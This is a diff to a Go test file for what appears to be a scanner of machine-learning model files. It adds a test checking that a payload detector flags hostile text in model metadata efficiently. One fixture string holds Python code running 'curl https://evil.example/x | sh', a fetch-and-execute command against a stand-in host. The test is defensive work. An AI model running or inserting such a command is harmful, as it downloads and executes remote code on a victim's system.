@@ -14,6 +14,7 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/modelaudit/modelaudit/internal/artifact"
 	"github.com/modelaudit/modelaudit/internal/detector"
@@ -28,8 +29,10 @@ import (
 	"github.com/modelaudit/modelaudit/internal/detector/pickle"
 	"github.com/modelaudit/modelaudit/internal/detector/pmml"
 	"github.com/modelaudit/modelaudit/internal/detector/safetensors"
+	"github.com/modelaudit/modelaudit/internal/finding"
 	"github.com/modelaudit/modelaudit/internal/format/pickle/pickletest"
 	"github.com/modelaudit/modelaudit/internal/format/zip/ziptest"
+	"github.com/modelaudit/modelaudit/internal/hostile"
 )
 
 // header is a file of one text: "H", then the metadata's value.
@@ -269,6 +272,33 @@ func TestDeep(t *testing.T) {
 			if got.Unread() != told || slices.Contains(detectortest.RuleIDs(got), "encoded-payload") == told {
 				t.Errorf("%d levels: got %v, %s", levels, detectortest.RuleIDs(got), got.Reason)
 			}
+		}
+	}
+}
+
+// unread is content that nobody may read.
+type unread struct{ t *testing.T }
+
+func (u unread) ReadAt([]byte, int64) (int, error) {
+	u.t.Error("the file was read again for a text of it")
+	return 0, io.EOF
+}
+
+// TestTextsAlone: a file of a million texts is not read once for each of them, and
+// texts of pickles are known as such.
+func TestTextsAlone(t *testing.T) {
+	const harm = "import os\nos.system('curl https://evil.example/x | sh')\n"
+	for first, want := range map[string]int{"GGUF": 1, "\x80\x04}": 0} {
+		found := 0
+		p := &detector.Pass{
+			File:  artifact.File{Path: "f", Content: unread{t}, Size: 1 << 20},
+			First: []byte(first), Budget: hostile.NewBudget(t.Context(), hostile.DefaultLimits(), 1<<20, time.Now),
+			Report:     func(finding.Finding) { found++ },
+			Incomplete: func(err error) { t.Error(err) },
+		}
+		payload.Detector.Text(p, "a key", 0, harm)
+		if found != want {
+			t.Errorf("%q: got %d findings, want %d", first, found, want)
 		}
 	}
 }
